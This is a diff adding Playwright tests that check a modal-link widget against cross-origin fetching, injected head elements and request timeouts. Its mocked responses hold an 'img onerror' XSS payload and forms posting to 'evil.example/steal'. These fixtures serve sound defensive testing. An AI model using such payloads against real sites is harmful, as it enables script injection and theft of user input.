@@ -10,6 +10,7 @@ import {
   waitForEnhanced,
   holdRequests,
 } from '../../test/support/fixtures';
+import { pauseClock } from '../../test/support/clock';
 
 const PAGE = '/widgets/modal-link';
 
@@ -184,6 +185,79 @@ test.describe('modal-link', () => {
     const dialog = page.getByRole('dialog');
     await expect(dialog.getByRole('alert')).toContainText('The content could not be loaded.');
     await expect(dialog).not.toContainText('Foreign text');
+  });
+
+  test('a link a script points at another origin after it was enhanced is followed, never fetched', async ({
+    page,
+  }) => {
+    const fetched: string[] = [];
+    // A site that lets any origin read it: fetched, its markup would run in this page.
+    await page.route('https://partners.example.com/**', (route) => {
+      if (route.request().resourceType() === 'fetch') fetched.push(route.request().url());
+      return route.fulfill({
+        contentType: 'text/html',
+        headers: { 'access-control-allow-origin': '*' },
+        body: '<h1>Elsewhere</h1><div class="node__content"><img src=x onerror="window.__pwned=1"></div>',
+      });
+    });
+    await page.goto(PAGE);
+    await waitForEnhanced(page, 'a.modal');
+    const link = page.getByRole('link', { name: 'Investor FAQ' });
+    await link.evaluate((a) => a.setAttribute('href', 'https://partners.example.com/faq'));
+    await link.click();
+    await expect(page).toHaveURL('https://partners.example.com/faq');
+    expect(fetched).toEqual([]);
+  });
+
+  test("a loaded page's base, meta, link, title and off-site forms never reach this page", async ({
+    page,
+  }) => {
+    await page.route('**/pages/investor-faq', (route) =>
+      route.fulfill({
+        contentType: 'text/html',
+        body: `<h1>Investor FAQ</h1><div class="node__content">
+          <base href="https://evil.example/"><meta name="referrer" content="unsafe-url">
+          <link rel="stylesheet" href="/demo-assets/none.css"><title>Owned</title>
+          <form id="away" action="https://evil.example/steal"><input name="q"></form>
+          <form id="here" action="/search"><input name="q" aria-label="Search">
+            <button id="leak" formaction="//evil.example/steal">Send elsewhere</button></form>
+          <svg role="img" aria-label="Chart"><title>Chart</title></svg><p>Loaded text</p></div>`,
+      }),
+    );
+    await page.goto(PAGE);
+    await waitForEnhanced(page, 'a.modal');
+    const base = await page.evaluate(() => document.baseURI);
+    const title = await page.title();
+    await page.getByRole('link', { name: 'Investor FAQ' }).click();
+    const dialog = page.getByRole('dialog', { name: 'Investor FAQ' });
+    await expect(dialog.getByText('Loaded text')).toBeVisible();
+    expect(await page.evaluate(() => document.baseURI)).toBe(base);
+    expect(await page.title()).toBe(title);
+    expect(
+      await dialog.evaluate((el) => el.querySelectorAll('base, meta, link, #away, #leak').length),
+    ).toBe(0);
+    await expect(dialog.locator('form#here')).toHaveCount(1);
+    await expect(dialog.locator('svg title')).toHaveText('Chart');
+  });
+
+  test('a page that never answers ends in the error after the request timeout (30 s by default)', async ({
+    page,
+  }) => {
+    await page.clock.install();
+    await page.goto(PAGE);
+    await waitForEnhanced(page, 'a.modal');
+    // Never answered: the route is held until the page closes.
+    await page.route('**/pages/investor-faq', () => {});
+    await pauseClock(page);
+    await page.getByRole('link', { name: 'Investor FAQ' }).click();
+    const dialog = page.getByRole('dialog', { name: 'Investor FAQ' });
+    await expect(dialog.getByRole('status')).toHaveText('Loading…');
+    await page.clock.runFor(29_000);
+    await expect(dialog.getByRole('status')).toHaveText('Loading…');
+    await page.clock.runFor(1_000);
+    await expect(dialog.getByRole('alert')).toContainText('The content could not be loaded.');
+    await expect(dialog.getByRole('link', { name: 'Open the page instead' })).toBeVisible();
+    await expect(dialog.locator('.modal-link__content')).not.toHaveAttribute('aria-busy', /.*/);
   });
 
   test('a modified click opens the page normally; without JavaScript the link navigates', async ({
